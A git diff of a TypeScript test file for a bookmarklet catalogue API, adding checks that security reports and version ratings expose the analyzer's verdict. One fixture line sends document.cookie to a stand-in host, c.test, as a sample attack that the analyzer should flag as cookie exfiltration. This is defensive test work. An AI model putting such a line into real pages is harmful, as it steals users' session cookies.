@@ -2,6 +2,7 @@ import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
 import { Validator } from "@seriousme/openapi-schema-validator";
 import { Ajv2020 } from "ajv/dist/2020.js";
 import formats from "ajv-formats";
+import type postgres from "postgres";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import * as z from "zod";
 import { addHostileScripts, type CatalogueHub, HOSTILE, startCatalogueHub } from "../../support/catalogue-hub.ts";
@@ -170,12 +171,12 @@ test("unknown resources and unsupported requests", async () => {
 	}
 });
 
-test("a list and a script state access and verdict, the script with what the verdict is based on", async () => {
+test("lists, versions and a script state access and verdict, the script with what the verdict is based on", async () => {
 	const code = "fetch('https://c.test/' + document.cookie)";
 	const { risk_level, score, ...analysis } = analyzeScript({ code });
-	const report = hub.sql.json(JSON.parse(JSON.stringify({ risk_level, score, ...analysis })));
+	const summary = JSON.parse(JSON.stringify({ risk_level, score, ...analysis }));
 	await hub.sql`
-		update public.bookmarklets set security_analysis = ${report}, risk_level = ${risk_level}, security_score = ${score}
+		update public.bookmarklets set security_analysis = ${hub.sql.json(summary)}, risk_level = ${risk_level}, security_score = ${score}
 		where id = ${ids.visible}`;
 	const { items } = await list("/scripts", "?author=lena-brandt&limit=100");
 	const access = { sites: "this-site", code: "none", reads: ["cookies"], contacts: ["c.test"], contact_count: 1 };
@@ -187,6 +188,18 @@ test("a list and a script state access and verdict, the script with what the ver
 		access,
 		security_analysis: { access, verdict: { kind: "attack", grounds: [{ type: "cookie-exfiltration" }], part: null } },
 	});
+	const report = async (summary: postgres.JSONValue, minutes: number) =>
+		await hub.sql`
+			insert into public.security_reports (version_id, risk_level, score, summary_json, rules_version, created_at)
+			select latest_version_id, ${risk_level}, ${score}, ${hub.sql.json(summary)}, '1.0.0', now() + ${minutes} * interval '1 minute'
+			from public.bookmarklets where id = ${ids.visible}`;
+	const newestRating = async () =>
+		(await list("/scripts/{id}/versions", "?limit=1", { id: ids.visible })).items[0]?.rating;
+	await report(summary, 1);
+	expect(await newestRating()).toMatchObject({ verdict: "attack", access });
+	expect(await newestRating()).not.toHaveProperty("summary_json");
+	await report({ of: "rules of long ago" }, 2);
+	expect(await newestRating()).toMatchObject({ verdict: "attack", access: null });
 });
 
 test("pages of other origins may ask, with the tag of their copy", async () => {
